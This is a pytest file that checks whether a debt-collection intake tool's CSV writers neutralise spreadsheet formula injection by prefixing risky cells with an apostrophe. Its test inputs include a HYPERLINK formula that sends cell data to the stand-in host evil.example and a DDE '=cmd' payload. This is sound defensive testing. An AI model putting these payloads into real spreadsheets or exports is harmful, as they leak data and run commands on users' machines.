"""Issue 10 item 4: no CSV the product writes holds a cell a spreadsheet reads as a formula.

Each case goes through the real writer of the file (``load_portfolio``, ``write_rejects``, the
sandbox generator); the file is read back with the csv module, as a spreadsheet would split it.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from skiptrace.errors import RejectedRow
from skiptrace.intake import load_portfolio
from skiptrace.pipeline.importer import write_rejects

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")"


def rows_of(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def assert_inert(cell: str) -> None:
    """What OWASP asks: no cell starts with = + - @ tab CR, also after leading whitespace."""
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0")), repr(cell)
    assert not cell.lstrip().startswith(("=", "+", "-", "@")), repr(cell)


@pytest.mark.parametrize("char", DANGEROUS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_csv_rejects_and_warnings_neutralise_a_name_starting_with(char: str, tmp_path: Path) -> None:
    name = f"{char}{PAYLOAD}"
    portfolio = tmp_path / "p.csv"
    # the name comes first so that the raw row (the file's third column) starts with it
    portfolio.write_bytes((
        "=evil;nom;cin;montant\n"                 # header: an unknown column '=evil', a notice
        f"{name};BENANI;BK123456;abc\n"           # rejected: unparseable amount
        f"{name};ALAMI;123;100\n"                 # accepted with a warning: invalid CIN
    ).encode())
    rejects, warnings = tmp_path / "rejects.csv", tmp_path / "warnings.csv"
    result = load_portfolio(portfolio, rejects, warnings)
    # a bare CR at the start of a line makes both rows unreadable CSV: rejected, still quoted
    assert (result.rejected, result.accepted) == ((2, 0) if char == "\r" else (1, 1))

    rejected = rows_of(rejects)
    assert rejected[0] == ["line", "reason", "raw"]
    assert len(rejected) == 1 + result.rejected
    warned = rows_of(warnings)
    assert len(warned) >= 2 + result.accepted  # header, notice about '=evil', the CIN warning
    for row in rejected + warned:
        for cell in row:
            assert_inert(cell)
    raws = [row[2] for row in rejected[1:] + warned[1:]]
    assert any(raw.startswith("'" + name) for raw in raws), raws
    assert any(raw == "'=evil;nom;cin;montant" for raw in raws), raws
    # the neutralising apostrophe is the only difference from the row as written
    assert rejected[1][2][0] == "'" and rejected[1][2][1:].startswith(name)
    assert rejected[1][0] == "2"  # the line number is a bare number


def test_csv_leading_spaces_do_not_hide_a_formula(tmp_path: Path) -> None:
    portfolio = tmp_path / "p.csv"
    portfolio.write_bytes(b"  =1+1;nom;montant\n  =2+2;X;abc\n")
    result = load_portfolio(portfolio, tmp_path / "r.csv", tmp_path / "w.csv")
    assert result.rejected == 1
    assert rows_of(tmp_path / "r.csv")[1][2] == "'  =2+2;X;abc"
    assert rows_of(tmp_path / "w.csv")[1][2] == "'  =1+1;nom;montant"


def test_csv_import_rejects_are_neutralised(tmp_path: Path) -> None:
    out = write_rejects(tmp_path / "import-rejects.csv",
                        [RejectedRow(7, "=cmd|' /C calc'!A0"), RejectedRow(8, "@SUM(A1:A9)")])
    assert rows_of(out) == [["line", "reason"], ["7", "'=cmd|' /C calc'!A0"],
                            ["8", "'@SUM(A1:A9)"]]


def test_csv_sandbox_portfolio_keeps_phones_readable_and_reads_back(sandbox_world: Path) -> None:
    rows = rows_of(sandbox_world / "portfolio.csv")
    header, data = rows[0], rows[1:]
    phones = [row[header.index("telephone")] for row in data]
    assert any(p.startswith("'+212") for p in phones), "E.164 phones are written '+212…"
    for row in data:
        for cell in row:
            assert_inert(cell)
    debtors = load_portfolio(sandbox_world / "portfolio.csv").debtors
    read = [p for d in debtors for p in d.phones]
    assert any(p.startswith("+212") for p in read)
    assert not any(p.startswith("'") for p in read), "the intake restores what the writer wrote"
